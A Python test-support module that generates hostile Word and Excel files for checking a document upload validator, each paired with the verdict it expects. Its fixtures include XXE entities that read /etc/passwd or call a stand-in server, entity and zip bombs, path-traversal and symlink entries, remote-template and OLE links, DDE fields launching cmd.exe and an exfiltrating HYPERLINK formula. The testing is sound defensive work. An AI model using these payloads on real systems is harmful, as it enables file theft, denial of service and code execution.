"""Office files, and archives that would pass for them."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from typing import Any

from tests.support.hostile.case import ANY, GOOD, REFUSED, Hostile, Table

MEGABYTE = 1_000_000
XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = XML + b"<w:document " + W + b"><w:body><w:p><w:r><w:t>Made up.</w:t></w:r></w:p></w:body></w:document>"
TYPES = XML + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
Parts = Mapping[Any, bytes]
"""Bodies by name, or by what an archive notes of a part."""


def links(*each: tuple[str, str, str]) -> bytes:
    """A part that names others: kind, target, and whether it is outside."""
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{R}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + mode + chr(34) if mode else ""}/>'
        for number, (kind, target, mode) in enumerate(each)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'.encode()


SHEET = XML + b"<worksheet " + S + b'><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
BOOK = (
    XML
    + b"<workbook "
    + S
    + f' xmlns:r="{R}"'.encode()
    + b'><sheets><sheet name="A" sheetId="1" r:id="r0"/></sheets></workbook>'
)
BASE: Mapping[str, Mapping[str, bytes]] = {
    "docx": {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": links(("officeDocument", "word/document.xml", "")),
        "word/document.xml": WORDS,
    },
    "xlsx": {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": links(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": BOOK,
        "xl/_rels/workbook.xml.rels": links(("worksheet", "worksheets/sheet1.xml", "")),
        "xl/worksheets/sheet1.xml": SHEET,
    },
}


def package(kind: str, more: Parts | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A sound small file of a kind with parts added, or put in the place of its own."""
    parts: dict[Any, bytes] = {}
    parts.update(BASE[kind])
    parts.update(more or {})
    return zipped(parts, method)


def holding(kind: str, parts: Parts) -> Callable[[], bytes]:
    """How to make a file of a kind with these parts."""
    return lambda: package(kind, parts)


def zipped(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


LOCAL = {"flags": 6, "method": 8, "crc": 14, "size": 22}
LISTED = {"flags": 8, "method": 10, "crc": 16, "size": 24}
SHORT = frozenset({"flags", "method"})


def told(content: bytes, name: str, **changes: int) -> bytes:
    """An archive whose directory and local header say something else about one part."""
    out = bytearray(content)
    for sign, first, places in ((b"PK\x03\x04", 30, LOCAL), (b"PK\x01\x02", 46, LISTED)):
        at = out.find(sign)
        while at >= 0:
            if out[at + first : at + first + len(name)] == name.encode():
                for what, value in changes.items():
                    struct.pack_into("<H" if what in SHORT else "<I", out, at + places[what], value)
            at = out.find(sign, at + 4)
    return bytes(out)


def shared(kind: str, count: int) -> bytes:
    """Parts that all lie on the same bytes: small outside, ``count`` times as large inside."""
    plain = package(kind, {"word/big.bin": bytes(MEGABYTE)})
    end = plain.rindex(b"PK\x05\x06")
    first = struct.unpack_from("<I", plain, end + 16)[0]
    at = plain.rindex(b"PK\x01\x02", first, end)
    entry = plain[at:end]
    copies = b"".join(entry.replace(b"word/big.bin", f"word/b{n:02}.bin".encode()[:12]) for n in range(count))
    body = plain[:end] + copies
    number = struct.unpack_from("<H", plain, end + 10)[0] + count
    tail = bytearray(plain[end:])
    struct.pack_into("<HHI", tail, 8, number, number, len(body) - first)
    return body + bytes(tail)


def twice(kind: str) -> bytes:
    """The same name two times, with different content."""
    out = io.BytesIO(package(kind))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(next(iter(BASE[kind])), b"<other/>")
    return out.getvalue()


def linked(kind: str, target: bytes) -> bytes:
    """A part that is a link on disk."""
    info = zipfile.ZipInfo("word/linked.xml")
    info.external_attr = 0o120777 << 16
    return package(kind, {info: target})


def main_of(kind: str) -> str:
    return "word/document.xml" if kind == "docx" else "xl/worksheets/sheet1.xml"


LAUGHS = b"<!DOCTYPE a [<!ENTITY l0 'lol'>" + b"".join(
    f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>".encode() for n in range(1, 10)
) + b"]>"  # fmt: skip
QUADRATIC = b"<!DOCTYPE a [<!ENTITY b '" + b"x" * 50_000 + b"'>]><a>" + b"&b;" * 20_000 + b"</a>"
READS = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
CALLS = b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://203.0.113.9/x.dtd">%b;]><a/>'

XMLS: Mapping[str, tuple[bytes, str]] = {
    "a billion laughs": (XML + LAUGHS + b"<a>&l9;</a>", "damaged"),
    "one long entity used often": (XML + QUADRATIC, "damaged"),
    "an entity that reads a file": (XML + READS, "damaged"),
    "an entity that calls a server": (XML + CALLS, "damaged"),
    "an entity after a megabyte": (XML + b"<!--" + b" " * 1_200_000 + b"-->" + READS, "refused"),
    "entities in 16 bits": (READS.decode().encode("utf-16"), "damaged"),
    "no end": (XML + b"<a><b>", "damaged"),
    "no sense": (b"\x00\x01\x02 no xml", "damaged"),
    "200000 levels": (XML + b"<a>" * 200_000 + b"</a>" * 200_000, ANY),
    "100000 attributes": (XML + b"<a " + b" ".join(b"a%d='1'" % n for n in range(100_000)) + b"/>", ANY),
    "a name of a megabyte": (XML + b"<" + b"a" * 900_000 + b"/>", ANY),
    "a strange encoding": (b'<?xml version="1.0" encoding="made-up"?><a/>', "damaged"),
}

PARTS: Mapping[str, tuple[Parts, str]] = {
    "macros": ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "macros"),
    "macros elsewhere": ({"custom/VBAPROJECT.BIN": b"x"}, "macros"),
    "macro data": ({"word/vbaData.xml": b"<a/>"}, "macros"),
    "older macros": ({"xl/macrosheets/sheet1.xml": b"<a/>"}, "macros"),
    "a control": ({"word/activeX/activeX1.xml": b"<a/>"}, "macros"),
    "the type of one with macros": (
        {"[Content_Types].xml": TYPES.replace(b"/>", b'><Default Extension="a" ContentType="x.macroEnabled.main+xml"/></Types>')},
        "macros",
    ),
    "an object": ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512}, "inside"),
    "a windows program": ({"word/media/image1.png": b"MZ\x90\0" + b"\0" * 99}, "program"),
    "a linux program": ({"word/media/image1.png": b"\x7fELF" + b"\0" * 99}, "program"),
    "a script": ({"word/media/run.sh": b"#!/bin/sh\n"}, "program"),
    "a web page": ({"word/afchunk.html": b"<html><script>alert(1)</script>"}, "inside"),
    "rich text": ({"word/afchunk.rtf": rb"{\rtf1\objupdate}"}, "inside"),
    "a web archive": ({"word/afchunk.mht": b"MIME-Version: 1.0\r\n"}, "inside"),
    "a pdf": ({"word/embeddings/a.pdf": b"%PDF-1.7\n"}, "inside"),
    "a zip": ({"word/embeddings/a.zip": zipped({"a.txt": b"x"})}, "inside"),
    "a broken zip": ({"word/embeddings/a.zip": b"PK\x03\x04 no more"}, "inside"),
    "a 7z": ({"word/embeddings/a.bin": b"7z\xbc\xaf\x27\x1c\0\4"}, "inside"),
    "a rar": ({"word/embeddings/a.bin": b"Rar!\x1a\x07"}, "inside"),
    "a gzip": ({"word/embeddings/a.bin": b"\x1f\x8b\x08\0"}, "inside"),
    "a cabinet": ({"word/embeddings/a.bin": b"MSCF\0\0"}, "inside"),
    "a sheet behind a chart": ({"word/embeddings/chart.xlsx": package("xlsx")}, GOOD),
    "a file with macros inside": (
        {"word/embeddings/a.docm": package("docx", {"word/vbaProject.bin": b"x"})}, "macros",
    ),
    "a bomb inside": ({"word/embeddings/a.docx": package("docx", {"word/b.bin": bytes(60 * MEGABYTE)})}, "too_large"),
    "four files one in another": (
        {"word/embeddings/a.docx": package("docx", {"word/embeddings/b.docx": package("docx", {
            "word/embeddings/c.docx": package("docx", {"word/embeddings/d.docx": package("docx")})})})}, "too_large",
    ),
    "a path that climbs": ({"word/../../evil.xml": b"<a/>"}, "damaged"),
    "a path that climbs backward": ({"word\\..\\..\\evil.xml": b"<a/>"}, "damaged"),
    "a path from the root": ({"/etc/cron.d/evil": b"x"}, "damaged"),
    "a path with a drive": ({"C:/evil.xml": b"<a/>"}, "damaged"),
    "4001 parts": ({f"word/a{n}.xml": b"<a/>" for n in range(4001)}, "too_large"),
    "a template from elsewhere": ({"word/_rels/settings.xml.rels": links(("attachedTemplate", "http://203.0.113.9/a.dotm", "External"))}, "outside"),
    "an object from elsewhere": ({"word/_rels/document.xml.rels": links(("oleObject", "mhtml:http://203.0.113.9/a!x", "External"))}, "outside"),
    "a picture from elsewhere": ({"word/_rels/document.xml.rels": links(("image", "http://203.0.113.9/a.png", "External"))}, "outside"),
    "a frame from elsewhere": ({"word/_rels/webSettings.xml.rels": links(("frame", "\\\\203.0.113.9\\a", "External"))}, "outside"),
    "a part from elsewhere": ({"word/_rels/document.xml.rels": links(("subDocument", "file://203.0.113.9/a", "EXTERNAL"))}, "outside"),
    "a sheet from elsewhere": ({"xl/externalLinks/_rels/externalLink1.xml.rels": links(("externalLinkPath", "file://203.0.113.9/a", "External"))}, "outside"),
    "a link": ({"word/_rels/document.xml.rels": links(("hyperlink", "https://example.org/", "External"))}, GOOD),
    "a taken-in page": ({"word/_rels/document.xml.rels": links(("aFChunk", "a.html", ""))}, "inside"),
    "links with entities": ({"word/_rels/document.xml.rels": READS}, "damaged"),
    "links of six megabytes": ({"word/_rels/document.xml.rels": b"<a>" + b" " * 6 * MEGABYTE + b"</a>"}, "too_large"),
    "a field that starts a program": ({"word/footer1.xml": XML + b"<a><w:instrText xmlns:w='w'> DDEAUTO c:\\\\cmd.exe</w:instrText></a>"}, "macros"),
    "a simple field that starts a program": ({"word/footer1.xml": XML + b"<w:fldSimple xmlns:w='w' w:instr=' DDE cmd'/>"}, "macros"),
    "a sheet that starts a program": ({"xl/externalLinks/externalLink1.xml": XML + b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}, "macros"),
}  # fmt: skip


def bombs(kind: str) -> Mapping[str, tuple[Callable[[], bytes], str]]:
    """Archives that are larger inside than out, or lie about it."""
    plain = package(kind)
    main = main_of(kind)
    return {
        "one part of 101 MB": (lambda: package(kind, {"word/a.bin": bytes(101 * MEGABYTE)}), "too_large"),
        "201 MB in parts": (lambda: package(kind, {f"a{n}.bin": bytes(67 * MEGABYTE) for n in range(3)}), "too_large"),
        "a dense part of 40 MB": (lambda: package(kind, {main: XML + b"<a>" + b" " * 40 * MEGABYTE + b"</a>"}), "too_large"),
        "parts that lie on each other": (lambda: shared(kind, 90), REFUSED),
        "a part that is larger than it says": (lambda: told(package(kind, {main: XML + b"<a>" + b" " * 30 * MEGABYTE + b"</a>"}), main, size=400), REFUSED),
        "a part that is smaller than it says": (lambda: told(plain, main, size=900_000), REFUSED),
        "a part of four gigabytes, it says": (lambda: told(plain, main, size=2**32 - 2), "too_large"),
        "a wrong sum": (lambda: told(plain, main, crc=1), "damaged"),
        "a lock": (lambda: told(plain, main, flags=1), "locked"),
        "another way of packing": (lambda: package(kind, method=zipfile.ZIP_BZIP2), "damaged"),
        "a rare way of packing": (lambda: package(kind, method=zipfile.ZIP_LZMA), "damaged"),
        "an unknown way of packing": (lambda: told(plain, main, method=97), "damaged"),
        "half of it": (lambda: plain[: len(plain) // 2], "damaged"),
        "its end missing": (lambda: plain[:-22], "damaged"),
        "junk in the middle": (lambda: plain[:200] + b"\xff" * 40 + plain[240:], REFUSED),
        "a name two times": (lambda: twice(kind), "damaged"),
        "a part that is a link": (lambda: linked(kind, b"/etc/passwd"), "damaged"),
        "no list of its types": (lambda: zipped({n: b for n, b in BASE[kind].items() if not n.startswith("[")}), "unknown"),
        "a note of 65535 letters": (lambda: plain[:-2] + b"\xff\xff" + b"n" * 65_535, ANY),
        "a directory of 20000 entries": (lambda: package(kind, {f"a{n}": b"" for n in range(20_000)}), "too_large"),
        "the name of the other": (lambda: plain, "misnamed"),
    }  # fmt: skip


OTHERS: Mapping[str, Callable[[], bytes]] = {
    "archive": lambda: zipped({"a.txt": b"x"}),
    "java archive": lambda: zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
    "phone program": lambda: zipped({"AndroidManifest.xml": b"\3\0", "classes.dex": b"dex\n"}),
    "open document": lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    "book": lambda: zipped({"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<a/>"}),
    "slides": lambda: zipped({"[Content_Types].xml": TYPES, "ppt/presentation.xml": b"<a/>"}),
    "archive of 300 MB": lambda: zipped({f"{n}.bin": bytes(60 * MEGABYTE) for n in range(5)}),
    "archive that climbs": lambda: zipped({"../../../etc/passwd": b"x"}),
}

SHEETS: Mapping[str, bytes] = {
    "a formula": b'<sheetData><row r="1"><c r="A1"><f>HYPERLINK("http://203.0.113.9/"&amp;A2)</f></c></row></sheetData>',
    "the last cell there is": b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    "a cell beyond the last": b'<sheetData><row r="99999999"><c r="ZZZZ99999999"><v>1</v></c></row></sheetData>',
    "a promise of 17 billion cells": b'<dimension ref="A1:XFD1048576"/><sheetData/>',
    "100000 merged cells": b"<sheetData/><mergeCells>"
    + b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(1, 100_001))
    + b"</mergeCells>",
    "a number of a megabyte": b'<sheetData><row r="1"><c r="A1"><v>' + b"9" * 900_000 + b"</v></c></row></sheetData>",
    "a shared word that is not there": b'<sheetData><row r="1"><c r="A1" t="s"><v>999999999</v></c></row></sheetData>',
}


def table() -> Table:
    """All of them."""
    for kind in BASE:
        for name, (build, must) in bombs(kind).items():
            extension = {"docx": "xlsx", "xlsx": "docx"}[kind] if must == "misnamed" else kind
            yield Hostile(f"{kind} with {name}", f"proof.{extension}", build, must)
        for name, (body, must) in XMLS.items():
            yield Hostile(f"{kind} with {name}", f"proof.{kind}", holding(kind, {main_of(kind): body}), must)
    for name, (parts, must) in PARTS.items():
        kind = "xlsx" if any(str(part).startswith("xl/") for part in parts) else "docx"
        yield Hostile(f"{kind} with {name}", f"proof.{kind}", holding(kind, parts), must)
    for name, build in OTHERS.items():
        yield Hostile(name, "proof.docx", build, "unknown")
    yield Hostile("archive of nothing", "proof.docx", lambda: b"PK\x05\x06" + b"\0" * 18, "unknown")
    for name, body in SHEETS.items():
        sheet = XML + b"<worksheet " + S + b">" + body + b"</worksheet>"
        yield Hostile(f"sheet with {name}", "plan.xlsx", holding("xlsx", {main_of("xlsx"): sheet}), ANY)
